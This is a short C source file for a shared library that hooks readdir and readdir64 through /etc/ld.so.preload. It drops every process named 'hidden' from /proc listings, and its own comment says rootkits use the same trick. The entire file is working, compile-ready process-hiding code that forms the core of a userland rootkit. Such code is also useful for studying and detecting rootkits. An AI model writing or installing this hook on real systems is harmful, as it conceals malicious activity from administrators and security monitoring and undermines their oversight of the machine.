/*
 * A library that keeps processes called "hidden" out of every list that a program gets, when /etc/ld.so.preload names it
 * (ld.so(8)). Rootkits do the same.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>

static int is_hidden(const char *name) {
  char path[300], comm[32] = "";
  if (!isdigit((unsigned char)name[0])) return 0;
  snprintf(path, sizeof path, "/proc/%s/comm", name);
  FILE *file = fopen(path, "r");
  if (!file) return 0;
  char *read = fgets(comm, sizeof comm, file);
  fclose(file);
  return read && !strcmp(comm, "hidden\n");
}

struct dirent *readdir(DIR *directory) {
  struct dirent *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir"), *entry;
  while ((entry = next(directory)) && is_hidden(entry->d_name));
  return entry;
}

struct dirent64 *readdir64(DIR *directory) {
  struct dirent64 *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir64"), *entry;
  while ((entry = next(directory)) && is_hidden(entry->d_name));
  return entry;
}
